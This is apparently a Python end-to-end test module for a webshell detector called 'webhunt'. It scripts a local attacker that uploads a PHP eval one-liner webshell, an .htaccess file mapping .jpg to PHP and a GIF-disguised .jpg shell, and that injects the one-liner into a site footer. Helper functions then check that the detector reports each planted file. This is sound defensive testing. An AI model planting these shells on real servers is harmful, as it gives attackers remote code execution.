"""The scripted attacker and benign client of the end-to-end test, and helpers that read the
outcome through webhunt's API.

The attacker (127.0.0.5) browses, uploads a webshell through the upload form and runs code through
it, uploads an ``.htaccess`` mapping ``.jpg`` to PHP plus a ``.jpg`` shell, and injects a one-liner
into ``includes/footer.php`` through the editor. A benign client (127.0.0.9) only browses.
The only code ever posted to the shells is ``echo 'ok';``.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from e2e_stack import Site

ATTACKER = "127.0.0.5"
BENIGN = "127.0.0.9"
ITEM_TIMEOUT = 30.0
HIGH = ("high", "critical")

ONE_LINER = "<?php @eval($_POST['x']); ?>"
SHELL = (ONE_LINER + "\n").encode()
HTACCESS = b"AddType application/x-httpd-php .jpg\nAddHandler application/x-httpd-php .jpg\n"
JPG_SHELL = b"GIF89a\x01\x00\x01\x00\n" + SHELL
HARMLESS = {"x": "echo 'ok';"}


def client(site: Site, source: str) -> httpx.Client:
    """An HTTP client whose requests leave from ``source`` (a loopback address of its own)."""
    transport = httpx.HTTPTransport(local_address=source)
    return httpx.Client(base_url=site.base_url, transport=transport, timeout=10)


def eventually(
    get: Callable[[], Any],
    what: str,
    timeout: float = ITEM_TIMEOUT,
    also: Callable[[], Any] | None = None,
) -> Any:
    """Poll ``get`` until it returns something truthy; fail naming ``what`` and the last value
    (and ``also()``, context for the failure message)."""
    deadline = time.monotonic() + timeout
    last: Any = None
    while time.monotonic() < deadline:
        last = get()
        if last:
            return last
        time.sleep(0.25)
    context = f"; context: {also()!r}" if also else ""
    pytest.fail(f"{what}: not delivered within {timeout:.0f} s (last: {last!r}){context}")


def findings(api: httpx.Client, **params: str) -> list[dict[str, Any]]:
    r = api.get("/findings", params={"limit": "200", **params})
    r.raise_for_status()
    items: list[dict[str, Any]] = r.json()["items"]
    return items


def file_finding(api: httpx.Client, relpath: str) -> dict[str, Any] | None:
    for f in findings(api, kind="file"):
        if f["relpath"] == relpath and f["severity"] in HIGH:
            return f
    return None


def planted(api: httpx.Client, relpath: str) -> dict[str, Any] | None:
    """The detail of ``relpath``'s file finding once it names its planting request."""
    f = file_finding(api, relpath)
    if f is None:
        return None
    detail: dict[str, Any] = api.get(f"/findings/{f['id']}").raise_for_status().json()
    return detail if detail["planting"] is not None else None


def browse(c: httpx.Client) -> None:
    for path in ("/", "/about.php", "/index.php"):
        assert c.get(path).status_code == 200


def upload(c: httpx.Client, name: str, data: bytes) -> None:
    r = c.post("/upload.php", files={"file": (name, data, "application/octet-stream")})
    assert r.status_code == 200 and f"Saved as /uploads/{name}" in r.text, r.text


#: Where in its second each step of the attack starts. nginx logs whole seconds and a request is
#: logged when it completes, after the file it wrote appeared: late in a second, the next step's
#: request (logged one second on) is nearer to the file's ctime than the file's own upload.
STEP_PHASE = 0.6


def step() -> None:
    """A pause between the attacker's steps: 0.5 to 1.5 s, ending at STEP_PHASE in its second."""
    pause = (STEP_PHASE - time.time()) % 1.0
    time.sleep(pause + 1.0 if pause < 0.5 else pause)


def use_shells(evil: httpx.Client) -> None:
    for _ in range(3):
        r = evil.post("/uploads/shell.php", data=HARMLESS)
        assert r.status_code == 200 and r.text.strip() == "ok", r.text
    # nginx ignores .htaccess: the image is served as a file, which is still the attacker's use.
    assert evil.get("/uploads/avatar.jpg").status_code == 200
    r = evil.post("/index.php", data=HARMLESS)
    assert r.status_code == 200 and "ok" in r.text


def attack(site: Site, between: Callable[[], None] = step) -> None:
    """The attack: each upload used at once, as a script would."""
    with client(site, ATTACKER) as evil, client(site, BENIGN) as good:
        browse(good)
        browse(evil)
        assert evil.get("/wp-login.php").status_code == 404
        assert evil.get("/upload.php").status_code == 200
        between()
        upload(evil, "shell.php", SHELL)
        for _ in range(3):
            r = evil.post("/uploads/shell.php", data=HARMLESS)
            assert r.status_code == 200 and r.text.strip() == "ok", r.text
        browse(good)
        between()
        upload(evil, ".htaccess", HTACCESS)
        between()
        upload(evil, "avatar.jpg", JPG_SHELL)
        assert evil.get("/uploads/avatar.jpg").status_code == 200
        between()
        footer = evil.get("/edit.php", params={"file": "includes/footer.php"})
        assert footer.status_code == 200
        original = (site.webroot / "includes/footer.php").read_text()
        r = evil.post(
            "/edit.php",
            params={"file": "includes/footer.php"},
            data={"content": original + ONE_LINER + "\n"},
        )
        assert r.status_code == 302, r.text
        r = evil.post("/index.php", data=HARMLESS)
        assert r.status_code == 200 and "ok" in r.text
        browse(good)
    assert "@eval" in (site.webroot / "includes/footer.php").read_text()


#: planted file -> the endpoint that wrote it
PLANTED = {
    "uploads/shell.php": "/upload.php",
    "uploads/.htaccess": "/upload.php",
    "uploads/avatar.jpg": "/upload.php",
    "includes/footer.php": "/edit.php",
}


def accessed(api: httpx.Client, relpath: str) -> list[dict[str, Any]]:
    """ "Webshell accessed" findings of ``relpath`` naming the attacker."""
    return [f for f in findings(api, kind="access") if f["relpath"] == relpath and f["client_ip"] == ATTACKER]


def all_accessed(api: httpx.Client) -> list[tuple[str, str | None]]:
    return [(f["relpath"], f["client_ip"]) for f in findings(api, kind="access")]
